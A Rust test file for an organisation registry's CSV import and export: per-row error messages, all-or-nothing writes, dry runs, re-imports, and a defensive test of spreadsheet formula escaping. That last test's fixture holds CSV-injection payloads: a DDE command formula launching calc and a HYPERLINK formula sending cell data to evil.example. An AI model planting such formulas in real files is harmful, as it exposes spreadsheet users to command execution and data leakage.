//! CSV import: every problem named as `file:line: column: message`, all or nothing, dry runs,
//! idempotent re-imports.

use crate::on_every_store;
use app::import::{CsvKind, ImportReport};
use app::App;
use domain::{Actor, ClusterInput};

async fn import(app: &App, kind: CsvKind, file: &str, bytes: &[u8], dry_run: bool) -> ImportReport {
    app.import_csv(&Actor::system(), kind, file, bytes, dry_run, &|_, _| {}).await.unwrap()
}

fn errors(r: &ImportReport) -> Vec<String> {
    r.errors.iter().map(|e| e.to_string()).collect()
}

async fn org_count(db: &store::Store) -> i64 {
    store::count_orgs(&mut db.conn().await.unwrap()).await.unwrap()
}

const GOOD: &str = "external_id,name,kind,country,sme,tags\n\
    A1,Acme Composites,company,LU,yes,composites;3d printing\n\
    A2,Université du Luxembourg,university,LU,,materials\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_files_are_reported_row_by_row_and_write_nothing() {
    on_every_store(|app, db, label| async move {
        let cases: &[(&str, &[u8], &[&str])] = &[
            (
                "missing column",
                b"external_id,name,kind\nA1,Acme,company\n",
                &["orgs.csv:1: country: missing required column"],
            ),
            (
                "bad country code",
                b"external_id,name,kind,country\nA1,Acme,company,LU\nA2,Beta,company,ZZ\n",
                &["orgs.csv:3: country: `ZZ` is not an ISO 3166-1 alpha-2 country code"],
            ),
            (
                "duplicate id",
                b"external_id,name,kind,country\nA1,Acme,company,LU\nA1,Acme again,company,LU\n",
                &["orgs.csv:3: external_id: duplicate `A1` (first on line 2)"],
            ),
            (
                "malformed UTF-8",
                b"external_id,name,kind,country\nA1,Caf\xe9 SA,company,LU\n",
                &["orgs.csv:2: name: invalid UTF-8 (byte 0xE9 at position 4)"],
            ),
            (
                "several problems at once",
                b"external_id,name,kind,country,website\nA1,,startup,LU,acme.lu\n",
                &[
                    "orgs.csv:2: name: is required",
                    "orgs.csv:2: kind: `startup` is not one of: company, research, university, public, other",
                    "orgs.csv:2: website: must start with http:// or https://",
                ],
            ),
            (
                "unknown column",
                b"external_id,name,kind,country,contry\nA1,Acme,company,LU,LU\n",
                &["orgs.csv:1: contry: unknown column"],
            ),
            (
                "ragged row",
                b"external_id,name,kind,country\nA1,Acme,company\n",
                &["orgs.csv:2: row: has 3 fields; the header has 4"],
            ),
        ];
        for (what, bytes, want) in cases {
            let r = import(&app, CsvKind::Organisations, "orgs.csv", bytes, false).await;
            let got = errors(&r);
            for w in *want {
                assert!(got.iter().any(|g| g.starts_with(w)), "{what} on {label}: want {w:?}, got {got:?}");
            }
            assert_eq!(got.len(), want.len(), "{what} on {label}: {got:?}");
            assert_eq!(org_count(&db).await, 0, "{what}: nothing may be written on {label}");
        }
    })
    .await;
}

/// Finding 15 of issue 13: a file with a ragged row and field errors reported only the ragged
/// row; the field errors came on the next try. One pass reports both: a row with the wrong
/// number of fields is reported as such (its fields are not read), every other row is checked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn structural_and_field_errors_are_reported_in_one_pass() {
    on_every_store(|app, db, label| async move {
        let file: &[u8] = b"external_id,name,kind,country\n\
            A1,Acme,company,LU\n\
            A2,Beta,company\n\
            A3,Gamma,company,ZZ\n\
            A4,,startup,LU,extra\n\
            A5,Caf\xe9 SA,company,LU\n\
            A1,Acme again,company,LU\n";
        let r = import(&app, CsvKind::Organisations, "orgs.csv", file, false).await;
        assert_eq!(
            errors(&r),
            [
                "orgs.csv:3: row: has 3 fields; the header has 4",
                "orgs.csv:4: country: `ZZ` is not an ISO 3166-1 alpha-2 country code",
                "orgs.csv:5: row: has 5 fields; the header has 4",
                "orgs.csv:6: name: invalid UTF-8 (byte 0xE9 at position 4)",
                "orgs.csv:7: external_id: duplicate `A1` (first on line 2)",
            ],
            "{label}"
        );
        assert_eq!(org_count(&db).await, 0, "nothing may be written on {label}");
        // The same on a dry run, and on the other kinds: memberships check clusters too.
        let dry = import(&app, CsvKind::Organisations, "orgs.csv", file, true).await;
        assert_eq!(errors(&dry), errors(&r), "{label}");
        let space = ClusterInput {
            slug: "space".into(),
            name: "Space".into(),
            sector: "Space".into(),
            description: String::new(),
        };
        app.create_cluster(&Actor::system(), &space).await.unwrap();
        let members = b"organisation,cluster,start_date\nA1,space\nA1,spaec,2020-01-01\n";
        let m = import(&app, CsvKind::Memberships, "members.csv", members, false).await;
        assert_eq!(
            errors(&m),
            [
                "members.csv:2: row: has 2 fields; the header has 3",
                "members.csv:3: organisation: unknown organisation `A1` (import organisations first)",
                "members.csv:3: cluster: unknown cluster `spaec`",
            ],
            "{label}"
        );
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn memberships_name_unknown_clusters_and_organisations() {
    on_every_store(|app, db, label| async move {
        assert!(import(&app, CsvKind::Organisations, "orgs.csv", GOOD.as_bytes(), false).await.errors.is_empty());
        let space = ClusterInput { slug: "space".into(), name: "Space".into(), sector: "Space".into(), description: String::new() };
        app.create_cluster(&Actor::system(), &space).await.unwrap();
        let bytes = b"organisation,cluster,start_date\nA1,space,2020-01-01\nA2,spaec,2020-01-01\nA9,space,\nA1,space,2021-13-01\n";
        let r = import(&app, CsvKind::Memberships, "members.csv", bytes, false).await;
        assert_eq!(
            errors(&r),
            [
                "members.csv:3: cluster: unknown cluster `spaec`",
                "members.csv:4: organisation: unknown organisation `A9` (import organisations first)",
                "members.csv:5: start_date: `2021-13-01` is not a date (YYYY-MM-DD)",
            ],
            "{label}"
        );
        assert!(app.find_cluster("space").await.unwrap().is_some());
        let members = store::memberships_of_cluster(&mut db.conn().await.unwrap(), domain::ClusterId::new(1), "2026-01-01").await.unwrap();
        assert!(members.is_empty(), "all or nothing on {label}");
        let ok = import(&app, CsvKind::Memberships, "members.csv", b"organisation,cluster,start_date\nA1,space,2020-01-01\n", false).await;
        assert_eq!((ok.created, ok.errors.len()), (1, 0), "{label}");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dry_run_reports_without_writing_and_reimport_changes_nothing() {
    on_every_store(|app, db, label| async move {
        let dry = import(&app, CsvKind::Organisations, "orgs.csv", GOOD.as_bytes(), true).await;
        assert_eq!((dry.created, dry.rows, dry.dry_run), (2, 2, true), "{label}");
        assert_eq!(org_count(&db).await, 0, "dry run writes nothing on {label}");

        let first = import(&app, CsvKind::Organisations, "orgs.csv", GOOD.as_bytes(), false).await;
        assert_eq!((first.created, first.updated, first.unchanged), (2, 0, 0), "{label}");
        let again = import(&app, CsvKind::Organisations, "orgs.csv", GOOD.as_bytes(), false).await;
        assert_eq!((again.created, again.updated, again.unchanged), (0, 0, 2), "{label}");
        assert_eq!(org_count(&db).await, 2);

        let changed = GOOD.replace("Acme Composites", "Acme Composites SA");
        let third = import(&app, CsvKind::Organisations, "orgs.csv", changed.as_bytes(), false).await;
        assert_eq!((third.created, third.updated, third.unchanged), (0, 1, 1), "{label}");

        // Projects and partners, then the same files again.
        let projects =
            b"external_id,title,kind,start_date,budget_eur\nP1,Composite satellite panels,common,2024-01-01,250000\n";
        let partners = b"project,organisation,role\nP1,A1,coordinator\nP1,A2,participant\n";
        assert_eq!(import(&app, CsvKind::Projects, "p.csv", projects, false).await.created, 1);
        assert_eq!(import(&app, CsvKind::Partners, "pp.csv", partners, false).await.created, 2);
        assert_eq!(import(&app, CsvKind::Projects, "p.csv", projects, false).await.unchanged, 1);
        assert_eq!(import(&app, CsvKind::Partners, "pp.csv", partners, false).await.unchanged, 2);
        let bad_role =
            import(&app, CsvKind::Partners, "pp.csv", b"project,organisation,role\nP1,A1,boss\n", false).await;
        assert!(errors(&bad_role)[0].starts_with("pp.csv:2: role: `boss` is not one of"), "{label}");

        // Search finds an organisation through its new project's words.
        let r = app
            .search(&app::registry::DirectoryQuery { q: Some("panels".into()), ..Default::default() })
            .await
            .unwrap();
        assert_eq!(r.total, 2, "{label}");

        // People: import, then again unchanged.
        let people = b"organisation,name,email,email_visibility\nA1,Alex Example,alex@example.org,on_agreement\n";
        assert_eq!(import(&app, CsvKind::People, "people.csv", people, false).await.created, 1);
        assert_eq!(import(&app, CsvKind::People, "people.csv", people, false).await.unchanged, 1);
        let bad = import(
            &app,
            CsvKind::People,
            "people.csv",
            b"organisation,name,email_visibility\nA1,Sam,everyone\n",
            false,
        )
        .await;
        assert!(errors(&bad)[0].starts_with("people.csv:2: email_visibility: `everyone` is not one of"), "{label}");
    })
    .await;
}

/// Finding 11 of issue 13: a member's needs and tags reached a spreadsheet as formulas. Every
/// CSV cell starting with `=`, `+`, `-`, `@`, tab or CR gets a leading `'` (OWASP); JSON stays raw.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_export_neutralises_formulas_and_json_keeps_them_raw() {
    on_every_store(|app, db, label| async move {
        let file = "external_id,name,kind,country,city,description,needs,tags\n\
            F1,+Formula SA,company,LU,@Foetz,-2+3,=cmd|'/C calc'!A0,\"=hyperlink(\"\"http://evil.example/?q=\"\"&a1);safe\"\n";
        let r = import(&app, CsvKind::Organisations, "f.csv", file.as_bytes(), false).await;
        assert!(r.errors.is_empty(), "{label}: {:?}", errors(&r));
        let mut out = Vec::new();
        app.export_organisations(app::export::Format::Csv, &mut out).await.unwrap();
        let mut rows = csv::Reader::from_reader(out.as_slice());
        let headers = rows.headers().unwrap().clone();
        let row = rows.records().next().unwrap().unwrap();
        let cell = |c: &str| row.get(headers.iter().position(|h| h == c).unwrap()).unwrap().to_string();
        assert_eq!(cell("name"), "'+Formula SA", "{label}");
        assert_eq!(cell("city"), "'@Foetz");
        assert_eq!(cell("description"), "'-2+3");
        assert_eq!(cell("needs"), "'=cmd|'/C calc'!A0");
        assert_eq!(cell("tags"), "'=hyperlink(\"http://evil.example/?q=\"&a1);safe");
        assert_eq!(cell("external_id"), "F1", "cells without a formula are unchanged");
        // The export still re-imports as it is: the import reads the `'` back.
        let again = import(&app, CsvKind::Organisations, "export.csv", &out, false).await;
        assert!(again.errors.is_empty(), "{label}: {:?}", errors(&again));
        assert_eq!((again.created, again.updated, again.unchanged), (0, 0, 1), "{label}");
        // Like a spreadsheet, the import reads a leading `'` before a formula character as a mark
        // of text; a text that really starts with `'-` is written `''-`.
        let quoted = "external_id,name,kind,country,offers,needs\nQ1,'Quoted,company,LU,''-already quoted,'-1\n";
        let q = import(&app, CsvKind::Organisations, "q.csv", quoted.as_bytes(), false).await;
        assert_eq!(q.created, 1, "{label}: {:?}", errors(&q));
        let o = store::get_org_by_external_id(&mut db.conn().await.unwrap(), "Q1").await.unwrap().unwrap();
        assert_eq!((o.name.as_str(), o.offers.as_str(), o.needs.as_str()), ("'Quoted", "'-already quoted", "-1"));
        let mut out = Vec::new();
        app.export_organisations(app::export::Format::Csv, &mut out).await.unwrap();
        let text = String::from_utf8(out.clone()).unwrap();
        assert!(text.contains(",'Quoted,") && text.contains(",''-already quoted,"), "{text}");
        let again = import(&app, CsvKind::Organisations, "export.csv", &out, false).await;
        assert_eq!((again.created, again.updated, again.unchanged), (0, 0, 2), "{label}: {:?}", errors(&again));
        let mut json = Vec::new();
        app.export_organisations(app::export::Format::Json, &mut json).await.unwrap();
        let v: serde_json::Value = serde_json::from_slice(&json).unwrap();
        assert_eq!(v[0]["needs"], "=cmd|'/C calc'!A0");
        assert_eq!(v[0]["tags"][0], "=hyperlink(\"http://evil.example/?q=\"&a1)");
    })
    .await;
}
